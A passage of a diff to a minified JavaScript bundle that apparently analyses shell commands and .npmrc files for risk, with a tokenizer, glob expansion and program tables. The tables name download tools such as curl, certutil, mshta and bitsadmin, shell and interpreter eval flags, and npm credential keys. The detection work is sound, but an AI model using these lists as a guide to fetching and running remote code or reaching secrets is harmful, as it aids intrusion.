+"${")?"other":"harmless"}async function CE(n,e){return Promise.all(Ii(n,".npmrc").map(({path:t})=>yE(n,t,e)))}async function yE(n,e,t){
+const s=Le.posix.dirname(e),r=await Vs({tree:n,directory:s==="."?"":s});if("unread"in r)return wE(n,e,r.unread);const{settings:i,
+file:o=e}=r,c=t.has(e)||t.has(o),l=([d,h])=>{const g=$a(d,h);return g==="harmless"||g==="honoured"&&!c},B=Object.entries(
+i);return{path:o,text:(0,oB.stringify)(Object.fromEntries(B.filter(l))),dropped:B.filter(d=>!l(d)).map(([d])=>d)}}function wE(n,e,t){
+const s=At(n,e);return s.kind==="inside"&&Wt(s.entry.kind)?{path:s.path,text:"",dropped:[t]}:{path:e,dropped:[t]}}const bE=/^(?:registry|@[^:]+:registry|\/\/.*|always-auth|_auth|_authToken|ca(?:file)?|cert|key|(?:https?-)?proxy|noproxy|strict-ssl)$/;
+async function _E(n,e){return(await CE(n,e)).flatMap(({path:s,dropped:r})=>{const i=r.filter(o=>!bE.test(o));return i.length>
+0?[`${s}: ${i.join(", ")}`]:[]})}const EE=sn(import.meta.url)("node:util");function vE(n){return typeof n=="object"&&n!==
+null&&!Array.isArray(n)}function on(n){return vE(n)?n:{}}function Yn(n,e){const t=Object.hasOwn(n,e)?n[e]:void 0;return typeof t==
+"string"?t:""}function kE(n,e,t=""){if(isDeepStrictEqual(n,e))return[];if(![n,e].every(o=>typeof o=="object"&&o!==null)||
+Array.isArray(n)!==Array.isArray(e))return[t];const[r,i]=[n,e].map(o=>new Map(Object.entries(o)));return[...new Set([...r?.
+keys()??[],...i?.keys()??[]])].flatMap(o=>kE(r?.get(o),i?.get(o),t===""?o:`${t}.${o}`))}const EB=200;function DE(n){if(new RegExp(
+`^[ \\t?-]{${EB}}`,"m").test(n))return!0;let e=0;for(const t of n.match(/[[\]{}]/g)??[])if(e=Math.max(0,e+(/[[{]/.test(t)?
+1:-1)),e>EB)return!0;return!1}const Tr=Symbol("*"),xE=/^.$/su,OE=/\[\w+\]|./gsu;function AE(n){if(!n.parts.some(l=>!l.quoted&&
+/[*?[]/.test(l.text)))return;const e=n.parts.flatMap(({text:l,quoted:B})=>B?Array.from(l):(l.match(OE)??[]).map(SE)),t=n.
+parts.map(({text:l,quoted:B})=>B?"\0":l).join(""),s=/^[^[]*\[.*\]/s.test(t.replace(/\[\w+\]/g,"]")),r=e.findIndex(l=>typeof l!=
+"string"||s&&l==="[");if(r<0)return;const i=n.parts.map(l=>l.text).join(""),o=vB(e.slice(0,r)),c=TE(e);return{text:i,prefix:o,
+segments:c,...s&&{ambiguity:"bracket"}}}function SE(n){return n==="*"?Tr:n==="?"?xE:n.length>1&&n.startsWith("[")?new RegExp(
+`^${n}$`):n}function vB(n){return n.filter(e=>typeof e=="string").join("")}function TE(n){const e=[[]];for(const t of n)
+t==="/"?e.push([]):e.at(-1)?.push(t);return e}function Ra(n){return n.every(e=>typeof e=="string")?vB(n):void 0}function IE(n){
+return n.includes(Tr)}const kB=n=>Array.from(n),$E=n=>Array.from(Buffer.from(n).toString("latin1"));function DB(n,e){if(e.
+startsWith(".")&&n[0]!==".")return!1;const t=Na(n,e,kB);return/^[\x20-\x7e]*$/.test(e)||t===Na(n,e,$E)?t:void 0}function RE(n,e){
+const t=Array.from(e,s=>s==="*"?Tr:s);return Na(t,n,kB)}function Na(n,e,t){const s=n.flatMap(l=>typeof l=="string"?t(l):
+[l]),r=t(e);let i=0,o=-1,c=0;for(let l=0;l<r.length;)if(s[i]===Tr)o=i,c=l,i+=1;else if(NE(s[i],r[l]))i+=1,l+=1;else if(o>=
+0)i=o+1,c+=1,l=c;else return!1;return s.slice(i).every(l=>l===Tr)}function NE(n,e=""){return n instanceof RegExp?n.test(
+e):n===e}const FE=20,PE=4096,xB=64;function LE(n,e,t){const{pattern:s,span:r,position:i}=n,o=dn(s.text),c=GE(s);let l=[];
+if(i==="program")t.add("glob-unclear",r,{pattern:o,reason:"program"});else if(HE(s))t.add("glob-unclear",r,{pattern:o,reason:"\
+outside"});else if(!ME(s,e))if(c)t.add("glob-unclear",r,{pattern:o,reason:c});else if(zE(s))t.add("glob-unclear",r,{pattern:o,
+reason:"flag"});else if(e)l=jE(n,e,t);else if(i==="script"&&s.segments.some(IE))t.add("glob-unclear",r,{pattern:o,reason:"\
+program"});else{const B={matches:[],count:0,judged:!1};t.add("unquoted-glob",r,{pattern:o,...B})}return l.length===0?[s.
+text]:l}function jE({pattern:n,span:e,position:t},s,r){const i=dn(n.text),o=ZE(n,s),c="matches"in o&&!o.matches.every(UE);
+if("ambiguity"in o||c){const h="ambiguity"in o?o.ambiguity:"file_name";return r.add("glob-unclear",e,{pattern:i,reason:h}),
+[]}const{matches:l}=o;l.some(h=>h.startsWith("-"))&&r.add("glob-unclear",e,{pattern:i,reason:"flag"}),t==="script"&&l.length>
+1&&r.add("glob-unclear",e,{pattern:i,reason:"program"});const B=l.slice(0,FE).map(h=>dn(h)),{length:d}=l;return r.add("u\
+nquoted-glob",e,{pattern:i,matches:B,count:d,judged:!0}),l}function ME({prefix:n,text:e},t){return n.includes("://")&&!t?.
+stat(e.slice(0,e.indexOf("/")))}function GE({text:n,segments:e,ambiguity:t}){return t||(n.length>PE?"too_many":e.some(r=>Ra(
+r)===void 0&&DB(r,".."))?"dot":void 0)}function HE({text:n,segments:e}){return n.startsWith("/")||e.some(t=>Ra(t)==="..")}
+function zE({prefix:n}){return n.startsWith("-")&&!n.includes("=")}function UE(n){const e=new lB;return Es(n,0,!0,e),e.inOrder().
+length===0}const JE=128*1024;function ZE(n,e){let t=[{written:"",path:""}];for(const[i,o]of n.segments.entries()){const c=i===
+n.segments.length-1,l=[];for(const B of t){const d=WE(B,o,c,e);if(typeof d=="string")return{ambiguity:d};l.push(...d)}t=
+l}const s=t.map(({written:i})=>Buffer.from(i));return s.reduce((i,o)=>i+o.length+1,0)>JE?{ambiguity:"too_many"}:{matches:s.
+sort(Buffer.compare).map(i=>i.toString())}}function WE(n,e,t,s){const{written:r,path:i}=n,o=Ra(e);if(o==="")return t?[n]:
+"empty_segment";const c=t?"":"/";if(o===".")return[{written:`${r}.${c}`,path:i}];const l=[];for(const B of KE(i,e,o,s)){
+if(B==="letters")return"letters";if(!t&&qE(B,s))return"symlink";!t&&B.kind!=="directory"||l.push({written:`${r}${Le.posix.
+basename(B.path)}${c}`,path:B.path})}return l}function*KE(n,e,t,s){if(t!==void 0){const r=s.stat(n===""?t:`${n}/${t}`);r?.
+tracked&&(yield r);return}for(const r of s.list(n)){if(!r.tracked)continue;const i=DB(e,Le.posix.basename(r.path));i===void 0?
+yield"letters":i&&(yield r)}}function qE(n,e){if(n.kind!=="symlink")return n.kind==="submodule";const t=At(e,n.path);return t.
+kind==="missing"?!1:t.kind!=="inside"||!/^(?:file|executable)$/.test(t.entry.kind)}const YE=/^-\w*c$|^--command$/,Fa=/^-(?=\w+$)\w*[ep]|^--(?:eval|print)(?:=|$)|^eval$/,
+VE=/^-\w*[eE]/,QE=/^$/,XE=/^(?:add|dlx)$/,ev=[["shell","sh bash dash ash zsh ksh mksh pdksh yash fish csh tcsh rc elvish\
+ nu xonsh",{text:YE}],["shell","pwsh powershell",{text:/^[-/](?:c|command|e|ec|en\w*)$/i}],["shell","cmd",{text:/^\/[ckr]/i}],
+["shell","osascript",{text:/^-e$/}],["shell","eval iex invoke-expression",{text:"words"}],["shell","source ."],["interpr\
+eter","node nodejs deno tsx ts-node jiti esno esmo babel-node",{text:Fa}],["interpreter","vite-node swc-node sucrase-nod\
+e",{text:Fa}],["interpreter","bun",{text:Fa,fetches:/^(?:x|add)$/,runsScripts:!0}],["interpreter","python python2 python\
+3 pythonw py pypy pypy3",{text:/^-[A-Za-z]*c/}],["interpreter","perl ruby lua luajit raku rscript julia elixir groovy sc\
+ala",{text:VE}],["interpreter","php",{text:/^-r|^--run$/}],["interpreter","java tclsh jshell ghci"],["wrapper","doas su \
+sudo",{wraps:"as-user"}],["wrapper","cross-env dotenv env-cmd",{wraps:"as-tool"}],["wrapper","command exec builtin busyb\
+ox toybox time taskset chrt flock prlimit unshare chroot"],["wrapper","strace ltrace gdb xargs parallel watch winpty"],[
+"wrapper","env ionice nice nohup setsid stdbuf timeout xvfb-run"],["downloader","curl wget aria2c axel fetch http https \
+xh httpie iwr irm invoke-webrequest"],["downloader","invoke-restmethod start-bitstransfer bitsadmin certutil mshta"],["b\
+uilder","go",{fetches:/^(?:run|install)$/}],["builder","cargo",{fetches:/^install$/}],["builder","make",{finds:"GNUmakef\
+ile makefile Makefile"}],["builder","just",{finds:"justfile Justfile .justfile"}],["builder","task",{finds:"Taskfile.yml\
+ Taskfile.yaml"}],["manager","npm",{fetches:/^(?:exec|x|i|install|add)$/,runsScripts:!0}],["manager","pnpm yarn",{fetches:XE,
+runsScripts:!0}],["manager","npx bunx pnpx uvx",{fetches:QE}],["manager","pip pip3",{fetches:/^install$/}],["manager","g\
+em",{fetches:/^install$/}],["manager","pipx",{fetches:/^run$/}],["manager","uv",{fetches:/^(?:tool run|pip3? install)$/,
 runsInside:!0}],["manager","poetry conda hatch mise pdm pipenv pixi rye",{runsInside:!0}],["manager","corepack composer"],
 ["system","docker podman",{fetches:/^(?:container )?run$/}],["system","cat ls rm cp mv grep find sed awk git touch echo \
-cd test diff wc head tail"],["system","chmod true false exit vim"]],Hi=new Map(VE.flatMap(([n,e,t])=>e.split(" ").map(s=>[
-s,{name:s,kind:n,...t}]))),QE=[...Hi.keys()];function Na(n){return/^\.{1,2}$/.test(n)?n:n.replace(/^.*[\\/]/s,"").replace(
-/\.(?:exe|cmd|bat|com|ps1)$/i,"").toLowerCase()}function Lt(n){const e=Na(n),t=Hi.get(e);if(t!==void 0)return t;const s=Hi.
-get(e.replace(/[-.]?(?=\d)(?<!\d\.*)\d[\d.]*w?$/,""));return s?.kind==="shell"||s?.kind==="interpreter"?s:void 0}function zi(n){
-return Lt(n)?.kind==="shell"}function xB(n){const e=Lt(n)?.kind;return e==="shell"||e==="interpreter"}function OB(n){if(n===
-".")return!1;const e=Lt(n)?.kind;return e!==void 0&&e!=="system"&&e!=="downloader"}function XE(n){const[e="",...t]=n.trim().
+cd test diff wc head tail"],["system","chmod true false exit vim"]],zi=new Map(ev.flatMap(([n,e,t])=>e.split(" ").map(s=>[
+s,{name:s,kind:n,...t}]))),tv=[...zi.keys()];function Ui(n){return/^\.{1,2}$/.test(n)?n:n.replace(/^.*[\\/]/s,"").replace(
+/\.(?:exe|cmd|bat|com|ps1)$/i,"").toLowerCase()}function Lt(n){const e=Ui(n),t=zi.get(e);if(t!==void 0)return t;const s=zi.
+get(e.replace(/[-.]?(?=\d)(?<!\d\.*)\d[\d.]*w?$/,""));return s?.kind==="shell"||s?.kind==="interpreter"?s:void 0}function Ji(n){
+return Lt(n)?.kind==="shell"}function Pa(n){const e=Lt(n)?.kind;return e==="shell"||e==="interpreter"}function OB(n){if(n===
+".")return!1;const e=Lt(n)?.kind;return e!==void 0&&e!=="system"&&e!=="downloader"}function nv(n){const[e="",...t]=n.trim().
 split(/\s+/);return SB(e)&&t.some(s=>/^-|[./]|^[|&;<>]+$/.test(s))}function AB(n){return/&&|\|\||\$\(|`/.test(n)?!0:n.split(
-/;\s|\s\|\s/).some(e=>{const[t="",...s]=e.trim().split(/\s+/);return s.length>0&&SB(t)})}function SB(n){return Hi.has(n)}
-const Ui=n=>new Set(n.split(/\s+/)),ev=Ui(": [ cd echo exit false test true"),Fa=Ui("! { do elif else if then time until\
- while"),tv=new RegExp(`^\\s*(?:(?:${[...Fa].join("|").replace("{","\\{")})\\s+)*$`),nv=Ui("fi done case esac for } in [\
-[ ]] function select coproc"),sv=Ui(`. alias autoload bg bind break builtin caller chdir command compgen complete compop\
+/;\s|\s\|\s/).some(e=>{const[t="",...s]=e.trim().split(/\s+/);return s.length>0&&SB(t)})}function SB(n){return zi.has(n)}
+const Zi=n=>new Set(n.split(/\s+/)),sv=Zi(": [ cd echo exit false test true"),La=Zi("! { do elif else if then time until\
+ while"),rv=new RegExp(`^\\s*(?:(?:${[...La].join("|").replace("{","\\{")})\\s+)*$`),iv=Zi("fi done case esac for } in [\
+[ ]] function select coproc"),ov=Zi(`. alias autoload bg bind break builtin caller chdir command compgen complete compop\
 t continue
   declare dirs disown enable eval exec export fc fg functions getopts hash help histexpand history integer
   jobs kill let local logout mapfile popd print printf pushd pwd r read readarray readonly return set shift shopt
-  source suspend times trap type typeset ulimit umask unalias unset wait whence`);function TB(n){return ev.has(n)}function rv(n){
-return Fa.has(n)}function iv(n){return tv.test(n)}function IB(n){return Fa.has(n)||nv.has(n)}function $B(n){return IB(n)||
-sv.has(n)}const RB=1e3,NB=/[ \t\n\r'"\\$`;&|<>()]/g;function ov(n,e){return new av(n,e).split()}class av{#e;#t;#s=[];#i=[];#r=0;#n=0;#a=0;constructor(e,t){
+  source suspend times trap type typeset ulimit umask unalias unset wait whence`);function TB(n){return sv.has(n)}function av(n){
+return La.has(n)}function cv(n){return rv.test(n)}function IB(n){return La.has(n)||iv.has(n)}function $B(n){return IB(n)||
+ov.has(n)}const RB=1e3,NB=/[ \t\n\r'"\\$`;&|<>()]/g;function uv(n,e){return new lv(n,e).split()}class lv{#e;#t;#s=[];#i=[];#r=0;#n=0;#a=0;constructor(e,t){
 this.#e=e,this.#t=t}split(){for(;this.#n<this.#e.length;)this.#u();if(this.#c(),this.#a>RB){const e={start:0,end:this.#e.
 length};this.#t.add("command-too-long",e,{more:`${RB} quoted parts`})}return this.#s}#u(){switch(this.#e.charAt(this.#n)){case"\
  ":case"	":this.#c(),this.#n+=1;break;case`
 `:case"\r":this.#c(),Es(this.#e.charAt(this.#n),this.#n,!1,this.#t),this.#n+=1;break;case"'":this.#p();break;case'"':this.#h();
 break;case"\\":this.#m();break;case"$":this.#l(!1);break;case"`":this.#g(!1);break;case";":case"&":case"|":case"<":case"\
->":case"(":case")":this.#c(),this.#n=fv(this.#e,this.#n,this.#t);break;case"#":this.#i.length===0?this.#y():this.#B();break;default:
+>":case"(":case")":this.#c(),this.#n=mv(this.#e,this.#n,this.#t);break;case"#":this.#i.length===0?this.#y():this.#B();break;default:
 this.#B()}}#o(e,t,s,r=s){this.#i.length===0&&(this.#r=r),this.#i.push({text:e,quoted:t,start:s})}#c(){this.#i.length!==0&&
 (this.#s.push({parts:this.#i,start:this.#r,end:this.#n}),this.#i=[])}#B(){const e=this.#n;NB.lastIndex=e+1;const t=NB.exec(
 this.#e)?.index??this.#e.length,s=this.#e.slice(e,t);Es(s,e,!1,this.#t),this.#o(s,!1,e),this.#n=t}#p(){const e=this.#n,t=this.#e.
@@ -3895,111 +3898,111 @@ min(t+1,this.#e.length),!(t<this.#e.length)&&this.#t.add("unterminated-quote",{s
 t=this.#e.charAt(e+1);this.#n+=1,t===""?(this.#t.add("unterminated-quote",{start:e,end:e+1},{quote:"\\"}),this.#o("\\",!0,
 e)):t===`
 `?(this.#n=e,this.#f(),this.#n+=2):t>"\x7F"?this.#o("",!0,e+1,e):(Es(t,e+1,!0,this.#t),this.#o(t,!0,e+1,e),this.#n+=1)}#f(){
-this.#t.add("line-continuation",{start:this.#n,end:this.#n+2},{})}#l(e){const t=dv(this.#e,this.#n,e);t?this.#C(t.kind,t.
-end,e):(e||this.#o("$",!1,this.#n),this.#n+=1)}#g(e){const t=Bv(this.#e,this.#n);this.#C("command-substitution",t,e)}#C(e,t,s){
+this.#t.add("line-continuation",{start:this.#n,end:this.#n+2},{})}#l(e){const t=hv(this.#e,this.#n,e);t?this.#C(t.kind,t.
+end,e):(e||this.#o("$",!1,this.#n),this.#n+=1)}#g(e){const t=pv(this.#e,this.#n);this.#C("command-substitution",t,e)}#C(e,t,s){
 const r=this.#n,i=this.#e.slice(r,t);this.#t.add(e,{start:r,end:t},{written:dn(i)}),s||this.#o(i,!0,r),this.#n=t}#y(){const e=this.#n,
 t=this.#e.indexOf(`
 `,e);this.#n=t<0?this.#e.length:t;const s=this.#e.slice(e,this.#n);Es(s,e,!1,this.#t),this.#t.add("shell-comment",{start:e,
-end:this.#n},{written:dn(s)})}}const cv=/[A-Za-z_]/,uv=/[A-Za-z0-9_]/,lv=/[0-9@*#?$!-]/;function dv(n,e,t){const s=n.charAt(
-e+1);if(s==="(")return{kind:n.charAt(e+2)==="("?"arithmetic-expansion":"command-substitution",end:Pa(n,e+1,"(",")")};if(s===
-"{")return{kind:"variable-expansion",end:Pa(n,e+1,"{","}")};if(s==="[")return{kind:"arithmetic-expansion",end:Pa(n,e+1,"\
-[","]")};if(s==="'"||s==='"'){if(t)return;const r=n.indexOf(s,e+2);return{kind:"dollar-quote",end:r<0?n.length:r+1}}if(cv.
-test(s)){let r=e+2;for(;uv.test(n.charAt(r));)r+=1;return{kind:"variable-expansion",end:r}}if(lv.test(s)||s>"\x7F")return{
-kind:"variable-expansion",end:e+2}}function Bv(n,e){for(let t=e+1;t<n.length;t+=1){const s=n.charAt(t);if(s==="\\")t+=1;else if(s===
-"`")return t+1}return n.length}function Pa(n,e,t,s){let r=0;for(let i=e;i<n.length;i+=1){const o=n.charAt(i);if(o===t)r+=
-1;else if(o===s&&(r-=1,r===0))return i+1}return n.length}function fv(n,e,t){const s=n.charAt(e);if(s==="("||s===")")return t.
+end:this.#n},{written:dn(s)})}}const dv=/[A-Za-z_]/,Bv=/[A-Za-z0-9_]/,fv=/[0-9@*#?$!-]/;function hv(n,e,t){const s=n.charAt(
+e+1);if(s==="(")return{kind:n.charAt(e+2)==="("?"arithmetic-expansion":"command-substitution",end:ja(n,e+1,"(",")")};if(s===
+"{")return{kind:"variable-expansion",end:ja(n,e+1,"{","}")};if(s==="[")return{kind:"arithmetic-expansion",end:ja(n,e+1,"\
+[","]")};if(s==="'"||s==='"'){if(t)return;const r=n.indexOf(s,e+2);return{kind:"dollar-quote",end:r<0?n.length:r+1}}if(dv.
+test(s)){let r=e+2;for(;Bv.test(n.charAt(r));)r+=1;return{kind:"variable-expansion",end:r}}if(fv.test(s)||s>"\x7F")return{
+kind:"variable-expansion",end:e+2}}function pv(n,e){for(let t=e+1;t<n.length;t+=1){const s=n.charAt(t);if(s==="\\")t+=1;else if(s===
+"`")return t+1}return n.length}function ja(n,e,t,s){let r=0;for(let i=e;i<n.length;i+=1){const o=n.charAt(i);if(o===t)r+=
+1;else if(o===s&&(r-=1,r===0))return i+1}return n.length}function mv(n,e,t){const s=n.charAt(e);if(s==="("||s===")")return t.
 add("shell-grammar",{start:e,end:e+1},{written:s}),e+1;const r=s==="<"||s===">",i=r?/[<>&|-]/:/[;&|]/;let o=e+1;for(;o-e<
 3&&i.test(n.charAt(o));)o+=1;const c=n.slice(e,o);return t.add(r?"shell-redirection":"shell-operator",{start:e,end:o},{operator:c}),
-o}const FB=128*1024;function Vn(n,e){const t=new uB;if(hv(n,t))return{words:[],assignments:[],refused:[],problems:t.inOrder()};
-const s={start:0,end:n.length};J_(n,t),va(n,t);const r=ov(n,t),{assignments:i,refused:o,count:c}=nE(r,t);for(const B of r.
-slice(0,c))PB(B,t);const l=pv(r.slice(c),e,t);l.length===0&&t.add("empty-command",s,{});for(const{value:B,span:d}of i)va(
-B,t,d);for(const{text:B,span:d}of l)va(B,t,d);return{words:l,assignments:i,refused:o,problems:t.inOrder()}}function La({
-problems:n}){return n.every(({severity:e})=>e==="warning")}function hv(n,e){if(Buffer.byteLength(n)<=FB)return!1;const t={
-start:0,end:n.length};return e.add("command-too-long",t,{more:`${FB} bytes`}),!0}function pv(n,e,t){const s=[];let r=0;for(const[
-i,o]of n.entries()){const c={start:o.start,end:o.end},l=o.parts.some(g=>g.quoted),B=ji(o);PB(o,t),gv(o,t),Cv(o,i===0,t),
-M_(B,o,i===0,t);const d=DE(o);if(d&&(r+=1),d&&r>DB&&t.add("glob-unclear",c,{pattern:dn(B),reason:"too_many"}),!d||r>DB){
-s.push({text:B,span:c,quoted:l});continue}const h=mv(i,s);for(const g of NE({pattern:d,span:c,position:h},e,t))s.push({text:g,
-span:c,quoted:l})}return s}function mv(n,e){return n===0?"program":n===1&&e[0]?.text==="node"?"script":"argument"}function PB(n,e){
+o}const FB=128*1024;function Vn(n,e){const t=new lB;if(gv(n,t))return{words:[],assignments:[],refused:[],problems:t.inOrder()};
+const s={start:0,end:n.length};Z_(n,t),Da(n,t);const r=uv(n,t),{assignments:i,refused:o,count:c}=sE(r,t);for(const B of r.
+slice(0,c))PB(B,t);const l=Cv(r.slice(c),e,t);l.length===0&&t.add("empty-command",s,{});for(const{value:B,span:d}of i)Da(
+B,t,d);for(const{text:B,span:d}of l)Da(B,t,d);return{words:l,assignments:i,refused:o,problems:t.inOrder()}}function Ma({
+problems:n}){return n.every(({severity:e})=>e==="warning")}function gv(n,e){if(Buffer.byteLength(n)<=FB)return!1;const t={
+start:0,end:n.length};return e.add("command-too-long",t,{more:`${FB} bytes`}),!0}function Cv(n,e,t){const s=[];let r=0;for(const[
+i,o]of n.entries()){const c={start:o.start,end:o.end},l=o.parts.some(g=>g.quoted),B=Mi(o);PB(o,t),wv(o,t),bv(o,i===0,t),
+G_(B,o,i===0,t);const d=AE(o);if(d&&(r+=1),d&&r>xB&&t.add("glob-unclear",c,{pattern:dn(B),reason:"too_many"}),!d||r>xB){
+s.push({text:B,span:c,quoted:l});continue}const h=yv(i,s);for(const g of LE({pattern:d,span:c,position:h},e,t))s.push({text:g,
+span:c,quoted:l})}return s}function yv(n,e){return n===0?"program":n===1&&e[0]?.text==="node"?"script":"argument"}function PB(n,e){
 for(const[t,s]of n.parts.entries()){if(s.quoted||!s.text.includes("~"))continue;const r=s.text.search(t===0?/(?:^|[=:])~/:
-/[=:]~/);if(r<0)continue;const i=s.start+s.text.indexOf("~",r),o=dn(ji(n));e.add("tilde-expansion",{start:i,end:i+1},{word:o});
-return}}function gv(n,e){let t=-1,s=!1;for(const r of n.parts)if(!(r.quoted||t<0&&!r.text.includes("{")))for(const{0:i,index:o}of r.
+/[=:]~/);if(r<0)continue;const i=s.start+s.text.indexOf("~",r),o=dn(Mi(n));e.add("tilde-expansion",{start:i,end:i+1},{word:o});
+return}}function wv(n,e){let t=-1,s=!1;for(const r of n.parts)if(!(r.quoted||t<0&&!r.text.includes("{")))for(const{0:i,index:o}of r.
 text.matchAll(/[{},]|\.\./g)){const c=r.start+o;if(i==="{")t<0&&(t=c);else if(i!=="}")s=t>=0;else if(s){const l={start:t,
-end:c+1};e.add("brace-expansion",l,{written:dn(ji(n))});return}}}function Cv(n,e,t){const s=K_(n);s!==void 0&&(s==="!"||
-e&&IB(s))&&t.add("shell-grammar",{start:n.start,end:n.end},{written:s})}const LB=sB({text:`
+end:c+1};e.add("brace-expansion",l,{written:dn(Mi(n))});return}}}function bv(n,e,t){const s=q_(n);s!==void 0&&(s==="!"||
+e&&IB(s))&&t.add("shell-grammar",{start:n.start,end:n.end},{written:s})}const LB=rB({text:`
     color no-color foreground-scripts if-present include-workspace-root json loglevel= long offline
     parseable prefer-offline prefer-online progress no-progress unicode no-unicode update-notifier
     no-update-notifier workspace= workspaces no-yes
   `,path:"prefix=","only-prints":"usage version versions","skips-tests":"ignore-scripts","outside-code":"call= global gl\
-obalconfig= node-options= registry= script-shell= shell= userconfig=","uses-network":"package= yes"}),yv=new Set(["--inc\
-lude-workspace-root","--prefix","--workspace","--workspaces"]),wv=new Set(["--bail","--coverage","--runInBand"]),bv=`
+obalconfig= node-options= registry= script-shell= shell= userconfig=","uses-network":"package= yes"}),_v=new Set(["--inc\
+lude-workspace-root","--prefix","--workspace","--workspaces"]),Ev=new Set(["--bail","--coverage","--runInBand"]),vv=`
   -?=usage -C=prefix -H=usage -c=call -d=loglevel:info -dd=loglevel:verbose -ddd=loglevel:silly
   -g=global -h=usage --help=usage -iwr=include-workspace-root -l=long --no=no-yes -p=parseable
   -q=loglevel:warn --quiet=loglevel:warn -s=loglevel:silent --silent=loglevel:silent -v=version
   --verbose=loglevel:verbose -w=workspace -ws=workspaces -y=yes
-`,jB=new Map(bv.trim().split(/\s+/).map(n=>n.split(/[=:]/)).map(([n="",e,t])=>[n,`--${e}${t===void 0?"":`=${t}`}`])),MB=Pi(
+`,jB=new Map(vv.trim().split(/\s+/).map(n=>n.split(/[=:]/)).map(([n="",e,t])=>[n,`--${e}${t===void 0?"":`=${t}`}`])),MB=Li(
 {"runs-script":"test,t,tst run,run-script start stop","runs-tool":"exec,x","only-prints":"explain,why help ls,list,la,ll\
  prefix query root sbom","uses-network":"ci,clean-install,ic create,init dedupe install,add,i,in install-ci-test,cit ins\
 tall-test,it link,ln prune rebuild,rb uninstall,r,remove,rm,un,unlink update,u,up,upgrade access adduser,add-user deprec\
 ate dist-tag login logout owner profile publish team token unpublish audit diff docs doctor outdated ping search,s view,\
 info,show,v whoami","writes-files":"cache pack pkg shrinkwrap version","outside-code":"config,c get set"});function GB(n,e){
 const t=[],s=n.toReversed();let r;const i=()=>{for(const o of s.reverse())t.push({kind:"operand",word:o});return{tokens:t,
-rest:void 0}};for(let o=s.pop();o!==void 0;o=s.pop()){if(o.text==="--")return i();const c=!ja(o);if(!c&&r!==void 0){t.push(
-{...r,word:o,next:o});continue}const{written:l,attached:B}=c?_v(o.text,e):{written:o.text,attached:void 0},d=c?e.expand(
+rest:void 0}};for(let o=s.pop();o!==void 0;o=s.pop()){if(o.text==="--")return i();const c=!Ga(o);if(!c&&r!==void 0){t.push(
+{...r,word:o,next:o});continue}const{written:l,attached:B}=c?kv(o.text,e):{written:o.text,attached:void 0},d=c?e.expand(
 l,B):"operand";if(d==="operand"){if(t.push({kind:"operand",word:o}),e.flags==="first")return i();continue}r=void 0;const h=s.
-at(-1),g=d?.at(-1)?.takes,C=B===void 0&&Ev(g,h),y={word:o,written:l,attached:B,next:h,consumes:C};d===void 0&&t.push({kind:"\
+at(-1),g=d?.at(-1)?.takes,C=B===void 0&&Dv(g,h),y={word:o,written:l,attached:B,next:h,consumes:C};d===void 0&&t.push({kind:"\
 unknown",...y});for(const[k,v]of d?.entries()??[]){const O=k===(d?.length??0)-1,D={word:o,written:l,attached:void 0,next:void 0,
 consumes:!1};t.push({kind:"flag",part:v,...O?y:D})}if(g==="rest")return{tokens:t,rest:s.reverse()};const _=t.at(-1);g===
-"operands"&&C&&_?.kind==="flag"&&(r=_),C&&!(g==="both"&&h&&!ja(h))&&s.pop()}return i()}function ja({text:n}){return!n.startsWith(
-"-")||n==="-"}function _v(n,{equals:e}){return e==="all"||e==="long"&&n.startsWith("--")?Ma(n):{written:n,attached:void 0}}
-function Ev(n,e){if(e===void 0)return!1;switch(n){case"always":case"both":return!0;case"unless-dash":return!e.text.startsWith(
-"-");case"operand":case"operands":return ja(e);default:return!1}}function vv({word:{span:n},attached:e,next:t,consumes:s}){
-return s&&t?{value:t.text,span:{start:n.start,end:t.span.end}}:e===void 0?{span:n}:{value:e,span:n}}function Ma(n){const e=n.
+"operands"&&C&&_?.kind==="flag"&&(r=_),C&&!(g==="both"&&h&&!Ga(h))&&s.pop()}return i()}function Ga({text:n}){return!n.startsWith(
+"-")||n==="-"}function kv(n,{equals:e}){return e==="all"||e==="long"&&n.startsWith("--")?Ha(n):{written:n,attached:void 0}}
+function Dv(n,e){if(e===void 0)return!1;switch(n){case"always":case"both":return!0;case"unless-dash":return!e.text.startsWith(
+"-");case"operand":case"operands":return Ga(e);default:return!1}}function xv({word:{span:n},attached:e,next:t,consumes:s}){
+return s&&t?{value:t.text,span:{start:n.start,end:t.span.end}}:e===void 0?{span:n}:{value:e,span:n}}function Ha(n){const e=n.
 indexOf("=");return e<0?{written:n,attached:void 0}:{written:n.slice(0,e),attached:n.slice(e+1)}}function ks(n,e){const{
-tokens:t,rest:s}=GB(e,Av(n)),r=[],i=[];let o;for(const g of t)g.kind==="flag"&&g.word===o&&/\s/.test(g.written)||(o=g.kind===
-"flag"&&g.consumes?g.next:void 0,g.kind==="flag"&&!kv(n,g,i)?r.push(Dv(g)):i.push(g.word));const c=n.stops?{operands:[],
+tokens:t,rest:s}=GB(e,Iv(n)),r=[],i=[];let o;for(const g of t)g.kind==="flag"&&g.word===o&&/\s/.test(g.written)||(o=g.kind===
+"flag"&&g.consumes?g.next:void 0,g.kind==="flag"&&!Ov(n,g,i)?r.push(Av(g)):i.push(g.word));const c=n.stops?{operands:[],
 started:i}:{operands:i,started:[]},l=s&&r.pop();if(s===void 0||l===void 0)return{flags:r,...c};const{word:B,value:d}=l,h=d===
-void 0?s:[{...B,text:d},...s];return{flags:r,...c,rest:{flag:l,words:h}}}function kv({readsBehind:n,handsOn:e},{part:t},s){
-return!!n&&!e&&t.spec===void 0&&s.length>0}function Dv(n){const{word:e,attached:t,next:s,consumes:r,part:i}=n,{spec:o,negated:c,
+void 0?s:[{...B,text:d},...s];return{flags:r,...c,rest:{flag:l,words:h}}}function Ov({readsBehind:n,handsOn:e},{part:t},s){
+return!!n&&!e&&t.spec===void 0&&s.length>0}function Av(n){const{word:e,attached:t,next:s,consumes:r,part:i}=n,{spec:o,negated:c,
 letter:l,fixed:B=t}=i,d=l??n.written;if(r&&s!==void 0){const _={start:e.span.start,end:s.span.end};return{word:{...e,span:_},
 written:d,flag:o,value:s.text,valueWord:s,off:!1}}const h=s!==void 0&&(!s.text.startsWith("-")||s.text==="-"),g=o===void 0&&
 h?s.text:void 0,C=o?.arity!=="value"&&/^(?:false|0)$/.test(B??""),y=o?.arity!=="rest"&&(c||C);return{word:e,written:d,flag:o,
-value:B??g,off:y}}const xv={none:"never",attached:"never",value:"both",optional:"operand",many:"operands",rest:"rest"};function os(n,e=!1){
-const t=n===void 0?"never":xv[n.arity];return{spec:n,negated:e,takes:e&&t!=="rest"?"never":t}}function Ov({flags:n},e,t){
